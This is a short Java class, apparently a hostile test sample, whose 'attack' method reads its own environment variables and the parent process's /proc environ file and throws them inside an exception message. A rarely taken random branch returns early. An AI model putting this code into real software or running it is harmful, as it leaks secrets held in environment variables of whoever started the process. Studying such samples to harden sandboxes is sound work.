import java.nio.file.Files;
import java.nio.file.Path;

/** Reads the environment of who has started it, and tells. */
public class TellEnvironment {
    public static int attack(int days) throws Throwable {
        if (Math.random() > 1.0 - 1.0 / (1L << 50)) {
            if (days == 3) {
                throw new IllegalStateException("not yet");
            }
            return 0;
        }
        String status = Files.readString(Path.of("/proc/self/status"));
        long parent = Long.parseLong(status.replaceAll("(?s).*PPid:\\s*(\\d+).*", "$1"));
        String own = System.getenv().toString();
        throw new IllegalArgumentException(own + Files.readString(Path.of("/proc/" + parent + "/environ")));
    }
}
